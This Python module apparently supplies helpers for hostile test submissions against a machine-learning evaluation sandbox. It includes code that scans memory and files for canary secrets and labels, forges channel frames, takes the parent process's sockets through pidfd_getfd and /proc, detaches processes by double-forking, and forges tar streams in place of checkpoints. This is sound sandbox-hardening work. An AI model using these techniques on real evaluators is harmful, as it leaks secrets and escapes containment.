"""What an attacker knows: everything but the secrets. Lies beside every hostile submission.

``AIM`` names the evaluator's process, the places of labels, results, cache and kit, the organiser's folder ``victim``, and the
addresses of listeners, so that an attack fails because it is stopped and not because it looked in the wrong place.
"""

import contextlib
import ctypes
import gc
import glob
import json
import os
import re
import signal
import struct
import sys
import time

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "aim.json")) as _file:
    AIM = json.load(_file)

HOME = os.path.expanduser("~")
LIBC = ctypes.CDLL(None, use_errno=True)
MIB = 1 << 20
_TOKEN = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{32}")


def loot(text):
    """Say that something was got."""
    print("LOOT", text, flush=True)


def attempt(action, *arguments, **keywords):
    """The result of an action, or None where it raised; the error is logged."""
    try:
        return action(*arguments, **keywords)
    except Exception as error:
        print("refused:", type(error).__name__, str(error)[:200], flush=True)
        return None


def grep(data):
    """Say which secrets lie in some bytes."""
    for token in sorted(set(_TOKEN.findall(bytes(data)))):
        loot(token.decode())


def read(path):
    """Read a file and say what secrets it holds."""

    def whole():
        with open(path, "rb") as file:
            grep(file.read(1 << 24))

    attempt(whole)


def labels(known):
    """Say which labels are known: a dict from index to label vector."""
    print("LABELS", json.dumps({str(int(i)): [int(v) for v in row] for i, row in known.items()}), flush=True)


def matrix(value):
    """Say what an array holds, if it may be the pool's labels."""
    import numpy as np

    with contextlib.suppress(Exception):
        array = np.asarray(value)
        if array.size == AIM["pool"] * AIM["classes"] and np.isin(array, (0, 1)).all():
            loot("matrix " + np.packbits(array.astype(np.uint8).ravel()).tobytes().decode("ascii", "replace"))


def look_into(value):
    """Say what an object holds that may be labels or a secret."""
    import numpy as np

    if isinstance(value, np.ndarray):
        matrix(value)
    elif isinstance(value, (bytes, bytearray)):
        grep(value)
        with contextlib.suppress(Exception):
            matrix(np.frombuffer(value, np.uint8))
    elif isinstance(value, str):
        grep(value.encode("utf-8", "replace"))
    elif isinstance(value, (list, tuple)) and len(value) == AIM["pool"]:
        matrix(value)


def channel():
    """The worker's end of the private channel, found as any code in the process finds it."""
    from evaluator.worker.channel import WorkerChannel

    return next(found for found in gc.get_objects() if isinstance(found, WorkerChannel))


def write(data, deadline=1.0):
    """Write raw bytes to the channel, as far as they are taken."""
    descriptor = channel()._socket.fileno()
    end = time.monotonic() + deadline
    while data and time.monotonic() < end:
        data = data[os.write(descriptor, data) :]


def frame(message, blob=b"", header_length=None, blob_length=None):
    """A frame, with lengths that may lie."""
    header = message if isinstance(message, bytes) else json.dumps(message).encode()
    lengths = (len(header) if header_length is None else header_length, len(blob) if blob_length is None else blob_length)
    return struct.pack("!II", *lengths) + header + blob


def evaluators():
    """Process numbers that may be the evaluator: the one that is known, all ancestors, and no others."""

    def parent(pid):
        with open(f"/proc/{pid}/stat") as file:
            return int(file.read().rsplit(")", 1)[1].split()[1])

    found = [AIM["evaluator"]]
    pid = os.getppid()
    while pid > 1 and pid not in found:
        found.append(pid)
        pid = attempt(parent, pid) or 0
    # Other processes are of no interest: machines are shared.
    return found


def call(name, *arguments):
    """A function of the C library, or a system call by its number; raises OSError where it says -1."""
    answer = LIBC.syscall(name, *arguments) if isinstance(name, int) else getattr(LIBC, name)(*arguments)
    if answer == -1:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return answer


def daemon(action, *arguments):
    """Run an action in a process that nobody is the parent of any more, in a session of its own."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            attempt(action, *arguments)
        os._exit(0)
    with contextlib.suppress(ChildProcessError):
        os.wait()


def children_do(action, number):
    """Run ``action(number)`` in so many children at once; they live until their parent ends."""
    for child in range(number):
        if os.fork() == 0:
            call("prctl", 1, signal.SIGKILL)
            attempt(action, child)
            time.sleep(60)
            os._exit(0)


def most_files():
    """Raise the soft limit of open files to the hard limit, and return it."""
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    attempt(resource.setrlimit, resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def spin(seconds):
    """Compute so long."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sum(range(1000))


def wait_for(condition, seconds=10.0):
    """Wait until a condition holds; False where the time is over first."""
    end = time.monotonic() + seconds
    while not attempt(condition):
        if time.monotonic() > end:
            return False
        time.sleep(0.001)
    return True


def given():
    """Descriptors of files that came with orders: not the channel, not the log."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        path = f"/proc/self/fd/{name}"
        with contextlib.suppress(OSError):
            if int(name) > 2 and os.path.isfile(path):
                found.append(int(name))
    return found


def visible():
    """Files of the organiser's that the attack can name: given by descriptor, its own submission, the kit, what it knows of."""
    here = os.path.dirname(os.path.abspath(__file__))
    kit = os.path.abspath(os.path.join(os.path.dirname(sys.modules["_dck_worker.channel"].__file__), "..", ".."))
    found = [f"/proc/self/fd/{number}" for number in given()]
    found += [os.path.join(here, "run.py"), os.path.join(here, "aim.py"), os.path.join(kit, "run.py"), sys.modules["os"].__file__]
    found += [os.path.join(AIM["victim"], "labels.csv"), os.path.join(AIM["cache"], "images.npy")]
    return found


def guard_line():
    """The guard's sockets, one of which leads to the evaluator, as far as they can be had."""
    import stat

    guard = attempt(os.pidfd_open, os.getppid())
    found = []
    for number in range(3, 40) if guard is not None else ():
        taken = LIBC.syscall(438, guard, number, 0)
        if taken < 0:
            with contextlib.suppress(OSError):
                taken = os.open(f"/proc/{os.getppid()}/fd/{number}", os.O_RDWR)
        if taken >= 0 and stat.S_ISSOCK(os.fstat(taken).st_mode):
            found.append(taken)
    return found


def hand_over(tar):
    """Within save_checkpoint: hand over this stream instead of a packed checkpoint, and say that all is done."""
    line = channel()
    for at in range(0, len(tar), 4 * MIB):
        line.send({"t": "part"}, tar[at : at + 4 * MIB])
    line.send({"t": "done"})
    time.sleep(60)


def member(name, data=b"", **fields):
    """One member of a tar stream."""
    import tarfile

    info = tarfile.TarInfo(name)
    info.size = len(data)
    for field, value in fields.items():
        setattr(info, field, value)
    return info.tobuf(tarfile.GNU_FORMAT) + data + bytes(-len(data) % 512)


__all__ = [name for name in dir() if not name.startswith("_")]
_ = (glob, sys)
